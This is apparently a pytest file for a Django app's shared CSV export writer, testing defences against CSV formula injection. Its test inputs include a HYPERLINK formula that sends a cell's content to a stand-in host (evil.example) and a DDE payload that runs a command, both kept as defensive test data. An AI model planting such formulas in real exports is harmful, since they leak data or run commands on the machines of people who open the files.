"""CSV exports are data, never formulas (CSV injection): the shared writer of every export."""

import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.utils.translation import gettext_lazy

from makeup.csv_export import csv_response, neutralise

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize(
    "text",
    [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"],
)
def test_a_text_cell_a_spreadsheet_would_run_is_written_behind_a_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Beta Swim", "O'Brien", "2026-10", "", "a=b", " =1"])
def test_other_text_is_written_as_it_is(text):
    assert neutralise(text) == text


@pytest.mark.parametrize("number", [-5, Decimal("-12.50"), -0.5, 0, 42])
def test_numbers_stay_numbers_also_negative_ones(number):
    assert neutralise(number) is number


def test_lazy_translations_are_text_too():
    assert neutralise(gettext_lazy("Total")) == "Total"


def test_csv_response_neutralises_every_text_cell_and_keeps_numbers():
    response = csv_response("x.csv", [["Name", "Value"], [HYPERLINK, Decimal("-3.00")], ["-1", -1]])
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert response.content.decode("utf-8-sig").splitlines() == [
        "Name,Value",
        '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",-3.00',
        "'-1,-1",
    ]


def test_every_csv_export_goes_through_the_shared_writer():
    """No module writes CSV on its own: a new export uses ``makeup.csv_export``."""
    root = Path(settings.BASE_DIR)
    offenders = []
    for path in root.rglob("*.py"):
        relative = path.relative_to(root)
        if relative.parts[0] in {".venv", "tests", "var", "node_modules"}:
            continue
        if relative == Path("makeup/csv_export.py"):
            continue
        text = path.read_text()
        if re.search(r"csv\.(writer|DictWriter)\b|from csv import", text):
            offenders.append(str(relative))
    assert offenders == []
